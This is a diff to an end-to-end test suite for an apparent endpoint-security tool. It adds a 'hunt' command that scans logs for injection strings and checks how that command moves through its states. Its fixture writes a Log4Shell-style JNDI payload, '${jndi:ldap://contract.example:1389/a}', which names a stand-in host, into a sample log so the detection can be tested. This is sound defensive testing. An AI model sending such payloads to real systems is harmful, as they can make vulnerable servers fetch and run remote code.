@@ -1,4 +1,4 @@
-import { mkdtemp, rm } from 'node:fs/promises';
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import Database from 'better-sqlite3';
@@ -17,9 +17,9 @@ import { cancelVerification } from './support/verification';
 
 // The contract between the two ends, with no fake on either side: the built controller
 // (SQLite) and the bundled agent process (its real CommandExecutor and AgentDaemon over real
-// gRPC), every kind (scan, probe, fix, restore: add each new kind here; quarantine and release
-// change this machine's firewall: e2e/containment.spec.ts runs them in network namespaces)
-// through every state a command can end in.
+// gRPC), every kind (scan, hunt, probe, fix, restore: add each new kind here; quarantine and
+// release change this machine's firewall: e2e/containment.spec.ts runs them in network
+// namespaces) through every state a command can end in.
 
 jest.setTimeout(180_000);
 
@@ -43,6 +43,7 @@ describe('command contract: real agent executor against the real controller', ()
   let srv: string;
   let bulk: string;
   let javaService: JavaService | undefined;
+  let logs: string;
 
   beforeAll(async () => {
     ensureBuilt();
@@ -54,6 +55,9 @@ describe('command contract: real agent executor against the real controller', ()
     await writeWar(path.join(srv, 'shop/app.war'), '2.14.1');
     bulk = path.join(agent.dir, 'bulk');
     await writeBrokenJars(bulk, 20_000);
+    logs = path.join(agent.dir, 'logs');
+    await mkdir(logs, { recursive: true });
+    await writeFile(path.join(logs, 'app.log'), 'ok\nua=${jndi:ldap://contract.example:1389/a}\n');
   });
 
   afterAll(async () => {
@@ -159,9 +163,9 @@ describe('command contract: real agent executor against the real controller', ()
     expect(agent.log).not.toContain('control stream ended');
   });
 
-  const probe = (body: object) =>
-    controller.api<CommandDto>('POST', `/hosts/${hostId}/probe`, body);
-  const storeInDb = (sql: string, ...params: unknown[]) => {
+  const hunt = (body: object) => controller.api<CommandDto>('POST', `/hosts/${hostId}/hunts`, body);
+  /** Writes a stored command's row while the agent is away (what the API would refuse). */
+  const tamper = (sql: string, ...params: unknown[]) => {
     const db = new Database(path.join(work, 'controller.sqlite'));
     try {
       db.prepare(sql).run(...params);
@@ -169,6 +173,72 @@ describe('command contract: real agent executor against the real controller', ()
       db.close();
     }
   };
+
+  it('hunt: queued -> delivered -> started -> succeeded, its hit stored', async () => {
+    // The daemon runs since the scan tests.
+    const command = await hunt({ paths: [logs] });
+    expect(command).toMatchObject({ kind: 'hunt' });
+    const done = await ended(command.id);
+    expect(done).toMatchObject({ state: 'succeeded', totalChunks: 1 });
+    expect(Object.keys(done.timestamps).sort()).toEqual(
+      ['queued', 'delivered', 'started', 'succeeded'].sort(),
+    );
+    const hits = await eventually(`the hit of ${command.id}`, async () => {
+      const page = await controller.api<{
+        total: number;
+        items: Array<{ line: number; decoded: string }>;
+      }>('GET', `/hunt-hits?commandId=${command.id}`);
+      return page.total > 0 ? page.items : undefined;
+    });
+    expect(hits).toEqual([
+      expect.objectContaining({ line: 2, decoded: '${jndi:ldap://contract.example:1389/a}' }),
+    ]);
+  });
+
+  it('hunt: failed, with the reason, when the agent refuses its parameters', async () => {
+    await agent.stop();
+    const command = await hunt({ paths: [logs] });
+    tamper(
+      'UPDATE commands SET payload = ? WHERE id = ?',
+      JSON.stringify({ paths: ['relative/logs'] }),
+      command.id,
+    );
+    agent.startDaemon();
+    const done = await ended(command.id);
+    expect(done).toMatchObject({ state: 'failed' });
+    expect(done.message).toContain('path "relative/logs" is not absolute');
+  });
+
+  it('hunt: cancelled through REST while queued, and never run', async () => {
+    await agent.stop();
+    const command = await hunt({ paths: [logs] });
+    expect(command.deliveredTo).toBe('not-connected');
+    expect(
+      await controller.api<CommandDto>('POST', `/commands/${command.id}/cancel`),
+    ).toMatchObject({ state: 'cancelled' });
+    agent.log = '';
+    agent.startDaemon();
+    const after = await hunt({ paths: [logs] });
+    expect(await ended(after.id)).toMatchObject({ state: 'succeeded' });
+    expect(agent.log).not.toContain(command.id);
+  });
+
+  it('hunt: expired when its expiry passed before it could be delivered', async () => {
+    await agent.stop();
+    const command = await hunt({ paths: [logs] });
+    tamper(
+      'UPDATE commands SET expires_at = ? WHERE id = ?',
+      new Date(Date.now() - 3_600_000).toISOString(),
+      command.id,
+    );
+    agent.log = '';
+    agent.startDaemon();
+    expect(await ended(command.id)).toMatchObject({ state: 'expired' });
+    expect(agentLogged(command.id, 'hunt started')).toBe(false);
+  });
+
+  const probe = (body: object) =>
+    controller.api<CommandDto>('POST', `/hosts/${hostId}/probe`, body);
 
   it('probe: queued -> delivered -> started -> succeeded, its results ingested', async () => {
     await agent.stop(); // whatever the scan cases left: a daemon of its own
@@ -197,7 +267,7 @@ describe('command contract: real agent executor against the real controller', ()
     await agent.stop();
     const command = await probe({ targets: [{ address: '127.0.0.1', port: 1 }] });
     // A controller that stored a foreign target (the API refuses one): the agent checks again.
-    storeInDb(
+    tamper(
       'UPDATE commands SET payload = ? WHERE id = ?',
       JSON.stringify({ targets: [{ address: '192.0.2.55', port: 1 }] }),
       command.id,
@@ -240,7 +310,7 @@ describe('command contract: real agent executor against the real controller', ()
     const queued = await probe({ targets: [{ port: 1 }] });
     await controller.api<CommandDto>('POST', `/commands/${queued.id}/cancel`);
     const late = await probe({ targets: [{ port: 1 }] });
-    storeInDb(
+    tamper(
       'UPDATE commands SET expires_at = ? WHERE id = ?',
       new Date(Date.now() - 3_600_000).toISOString(),
       late.id,
